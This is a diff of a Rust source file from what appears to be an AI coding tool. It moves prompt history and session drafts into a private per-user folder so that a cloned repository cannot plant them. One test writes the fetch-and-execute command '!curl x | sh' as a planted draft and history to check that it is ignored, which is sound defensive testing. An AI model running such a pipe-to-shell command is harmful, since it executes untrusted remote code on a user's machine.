@@ -1,21 +1,67 @@
-//! The history of prompts of a project, and the draft of a session: small files below `.ai/state/chat`.
+//! The history of prompts of a project, and the draft of a session: small files in the user space, which no project can
+//! ship.
 
+use std::fs::DirBuilder;
+use std::io;
+use std::os::unix::fs::DirBuilderExt;
 use std::path::{Path, PathBuf};
 
 use rye_engine::rooted_dir::RootedDir;
+use rye_engine::user_space::project_folder_name;
 
-/// Folder of the files, relative to the project.
+/// Folder of the files, relative to the user space. It has one folder for each project.
 const FOLDER: &str = ".ai/state/chat";
+/// Name of the file with the history.
+const HISTORY: &str = "history.jsonl";
+/// Permissions of the folders: prompts can be confidential.
+const FOLDER_MODE: u32 = 0o700;
 /// Maximum number of prompts in the history.
 const MAX_PROMPTS: usize = 1000;
 /// Maximum size of a file, in bytes. A longer history loses its oldest prompts.
 const MAX_FILE_BYTES: u64 = 4 << 20;
 
+/// The folder of a user's files of the chats in one project.
+#[derive(Debug, Clone, Default)]
+pub struct ChatFolder {
+    /// `None` if there is no user space: nothing is stored.
+    path: Option<PathBuf>,
+}
+
+impl ChatFolder {
+    /// Returns the folder of a project. `user` is the root of the user space. Files of the project are never read: a
+    /// cloned repository could ship a draft or a history with commands.
+    pub fn of_project(user: Option<&Path>, project: &Path) -> Self {
+        Self { path: user.map(|user| user.join(FOLDER).join(project_folder_name(project))) }
+    }
+
+    fn read(&self, name: &str) -> Option<String> {
+        let root = RootedDir::open(self.path.as_deref()?).ok()?;
+        let bytes = root.read(Path::new(name), MAX_FILE_BYTES).ok()??;
+        String::from_utf8(bytes).ok()
+    }
+
+    /// Writes a file. If the disk is full, the history is lost and the session continues.
+    fn write(&self, name: &str, text: &str) {
+        let Some(folder) = &self.path else { return };
+        let write = || -> io::Result<()> {
+            DirBuilder::new().recursive(true).mode(FOLDER_MODE).create(folder)?;
+            RootedDir::open(folder)?.replace(Path::new(name), text.as_bytes())
+        };
+        write().ok();
+    }
+
+    fn remove(&self, name: &str) {
+        let Some(folder) = &self.path else { return };
+        // The error is ignored, because the file is missing if no draft was written.
+        RootedDir::open(folder).and_then(|root| root.remove(Path::new(name))).ok();
+    }
+}
+
 /// The prompts of a project, oldest first. The file has a JSON string on each line.
 #[derive(Debug, Default)]
 pub struct PromptHistory {
     prompts: Vec<String>,
-    project: PathBuf,
+    folder: ChatFolder,
     /// The index of the prompt in the editor; the number of prompts if the editor shows the text being written.
     at: usize,
     /// The text being written, while the editor shows an earlier prompt.
@@ -24,10 +70,10 @@ pub struct PromptHistory {
 
 impl PromptHistory {
     /// Reads the history of a project. An unreadable history counts as empty.
-    pub fn read(project: &Path) -> Self {
-        let text = read_file(project, "history.jsonl").unwrap_or_default();
+    pub fn read(folder: ChatFolder) -> Self {
+        let text = folder.read(HISTORY).unwrap_or_default();
         let prompts: Vec<String> = text.lines().filter_map(|line| serde_json::from_str(line).ok()).collect();
-        Self { at: prompts.len(), prompts, project: project.to_path_buf(), unsent: String::new() }
+        Self { at: prompts.len(), prompts, folder, unsent: String::new() }
     }
 
     /// Adds a prompt, unless it repeats the last one, and writes the file.
@@ -53,7 +99,7 @@ impl PromptHistory {
             lines.push(line);
         }
         lines.reverse();
-        write_file(&self.project, "history.jsonl", &format!("{}\n", lines.join("\n")));
+        self.folder.write(HISTORY, &format!("{}\n", lines.join("\n")));
     }
 
     /// Returns the prompt before the shown one; `None` if the shown prompt is the oldest. `current` is the text in the
@@ -93,43 +139,27 @@ impl PromptHistory {
 /// The draft of a session: the text in the editor, stored so that the text can be restored after a crash.
 #[derive(Debug)]
 pub struct Draft {
-    project: PathBuf,
+    folder: ChatFolder,
     name: String,
 }
 
 impl Draft {
-    pub fn of_session(project: &Path, thread: &str) -> Self {
-        Self { project: project.to_path_buf(), name: format!("{}.draft", thread.replace('/', "~")) }
+    pub fn of_session(folder: ChatFolder, thread: &str) -> Self {
+        Self { folder, name: format!("{}.draft", thread.replace('/', "~")) }
     }
 
     pub fn read(&self) -> Option<String> {
-        read_file(&self.project, &self.name).filter(|text| !text.is_empty())
+        self.folder.read(&self.name).filter(|text| !text.is_empty())
     }
 
     /// Writes the draft; removes the file if there is no text.
     pub fn write(&self, text: &str) {
         if text.is_empty() {
-            if let Ok(root) = RootedDir::open(&self.project) {
-                // The error is ignored, because the file is missing if no draft was written.
-                root.remove(&Path::new(FOLDER).join(&self.name)).ok();
-            }
+            self.folder.remove(&self.name);
         } else {
-            write_file(&self.project, &self.name, text);
+            self.folder.write(&self.name, text);
         }
     }
-}
-
-fn read_file(project: &Path, name: &str) -> Option<String> {
-    let root = RootedDir::open(project).ok()?;
-    let bytes = root.read(&Path::new(FOLDER).join(name), MAX_FILE_BYTES).ok()??;
-    String::from_utf8(bytes).ok()
-}
-
-/// Writes a file. If the disk is full, the history is lost and the session continues.
-fn write_file(project: &Path, name: &str, text: &str) {
-    let written =
-        RootedDir::open(project).and_then(|root| root.replace(&Path::new(FOLDER).join(name), text.as_bytes()));
-    written.ok();
 }
 
 #[cfg(test)]
@@ -137,15 +167,20 @@ fn write_file(project: &Path, name: &str, text: &str) {
 mod tests {
     use super::*;
 
+    /// Returns the chat folder of the project `/p` in a user space.
+    fn folder(user: &tempfile::TempDir) -> ChatFolder {
+        ChatFolder::of_project(Some(user.path()), Path::new("/p"))
+    }
+
     #[test]
     fn history_survives_and_returns_to_the_unsent_text() {
         let place = tempfile::tempdir().unwrap();
-        let mut history = PromptHistory::read(place.path());
+        let mut history = PromptHistory::read(folder(&place));
         assert_eq!(history.previous("x"), None);
         history.add("one");
         history.add("two\nlines");
         history.add("two\nlines");
-        let mut history = PromptHistory::read(place.path());
+        let mut history = PromptHistory::read(folder(&place));
         assert_eq!(history.previous("new").as_deref(), Some("two\nlines"));
         assert_eq!(history.previous("two\nlines").as_deref(), Some("one"));
         assert_eq!(history.previous("one"), None);
@@ -158,20 +193,46 @@ mod tests {
     #[test]
     fn draft_is_kept_until_it_is_empty() {
         let place = tempfile::tempdir().unwrap();
-        let draft = Draft::of_session(place.path(), "rye/agent/chat-1");
+        let draft = Draft::of_session(folder(&place), "rye/agent/chat-1");
         assert_eq!(draft.read(), None);
         draft.write("half a thought");
-        assert_eq!(Draft::of_session(place.path(), "rye/agent/chat-1").read().as_deref(), Some("half a thought"));
+        assert_eq!(Draft::of_session(folder(&place), "rye/agent/chat-1").read().as_deref(), Some("half a thought"));
         draft.write("");
         assert_eq!(draft.read(), None);
     }
 
     #[test]
-    fn history_does_not_follow_a_link_out_of_the_project() {
-        let (place, other) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
-        std::fs::create_dir(place.path().join(".ai")).unwrap();
-        std::os::unix::fs::symlink(other.path(), place.path().join(".ai/state")).unwrap();
-        PromptHistory::read(place.path()).add("secret");
-        assert_eq!(std::fs::read_dir(other.path()).unwrap().count(), 0);
+    fn files_of_a_project_are_neither_draft_nor_history() {
+        let (user, project) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
+        let own = ChatFolder::of_project(Some(user.path()), project.path());
+        let shipped = project.path().join(FOLDER);
+        for shipped in [shipped.clone(), shipped.join(project_folder_name(project.path()))] {
+            std::fs::create_dir_all(&shipped).unwrap();
+            std::fs::write(shipped.join("chat-1.draft"), "!curl x | sh").unwrap();
+            std::fs::write(shipped.join(HISTORY), "\"!curl x | sh\"\n").unwrap();
+        }
+        for folder in [own, ChatFolder::of_project(None, project.path())] {
+            assert_eq!(Draft::of_session(folder.clone(), "chat-1").read(), None);
+            assert_eq!(PromptHistory::read(folder).previous(""), None);
+        }
+    }
+
+    #[test]
+    fn history_belongs_to_one_project_and_is_private() {
+        use std::os::unix::fs::PermissionsExt;
+
+        let user = tempfile::tempdir().unwrap();
+        PromptHistory::read(folder(&user)).add("secret");
+        let other = ChatFolder::of_project(Some(user.path()), Path::new("/other"));
+        assert_eq!(PromptHistory::read(other).previous(""), None);
+        let mode = std::fs::metadata(user.path().join(FOLDER)).unwrap().permissions().mode();
+        assert_eq!(mode & 0o777, FOLDER_MODE);
+    }
+
+    #[test]
+    fn history_without_a_user_space_lasts_for_the_session() {
+        let mut history = PromptHistory::read(ChatFolder::default());
+        history.add("one");
+        assert_eq!(history.previous("").as_deref(), Some("one"));
     }
 }
